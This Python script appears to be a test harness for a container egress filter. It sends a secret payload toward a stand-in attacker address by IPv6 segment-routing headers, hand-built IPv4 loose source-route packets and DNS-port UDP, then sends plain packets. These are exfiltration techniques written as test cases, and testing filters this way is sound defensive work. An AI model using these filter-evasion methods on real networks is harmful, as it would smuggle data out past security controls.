"""unread WAY PORT: what cannot be read, then plain packets in its flow.

The ways of IPv4 but `dns` are for root in a container.
"""

way, port = sys.argv[1], int(sys.argv[2])
family = V6 if way.startswith("segment") else V4
attacker, allowed = ATTACKER[family], ALLOWED[family]


def segments(*addresses):
    # RFC 8754 section 2: next, length, type 4, left, last, flags, tag.
    last = len(addresses) - 1
    head = struct.pack("!BBBBBBH", 0, 2 * len(addresses), 4, last, last, 0, 0)
    return head + b"".join(map(packed, addresses))


def routed(kind, destination, hop):
    # RFC 791 section 3.1: type, length, pointer to the next hop, end.
    option = struct.pack("BBB4sB", kind, 7, 4, packed(hop), 0)
    plain = udp(BOX[V4], port, destination, 4444, SECRET)
    size = len(plain) + len(option)
    head = struct.pack("!BBH", 0x47, 0, size) + plain[4:10] + b"\0\0"
    head += plain[12:20] + option
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + plain[20:]


if family == V6:
    sending = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    sending.bind((RUN[V6], port))
    hops = (attacker, allowed) if way == "segments_last" else (allowed, attacker)
    sending.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, segments(*hops))
    for target in (attacker, allowed) * 2:
        attempt(sending.sendto, SECRET, (target, 4444))
        time.sleep(0.05)
    sending.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, b"")
    for _ in range(2):
        attempt(sending.sendto, SECRET, (attacker, 4444))
        time.sleep(0.05)
elif way == "dns":
    sending = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sending.bind((RUN[V4], port))
    for data in (SECRET, SECRET * 8, query("allowed.test") + SECRET) * 2:
        attempt(sending.sendto, data, (attacker, 53))
        time.sleep(0.05)
    for _ in range(2):
        attempt(sending.sendto, b"harmless", (allowed, 53))
else:
    link = Link()
    LOOSE = 131
    ends = (attacker, RUN[V4]) if way.endswith("kept") else (RUN[V4], attacker)
    for _ in range(2):
        link.send(routed(LOOSE, *ends))
        time.sleep(0.05)
    for _ in range(2):
        link.send(udp(BOX[V4], port, attacker, 4444, SECRET))
        time.sleep(0.05)
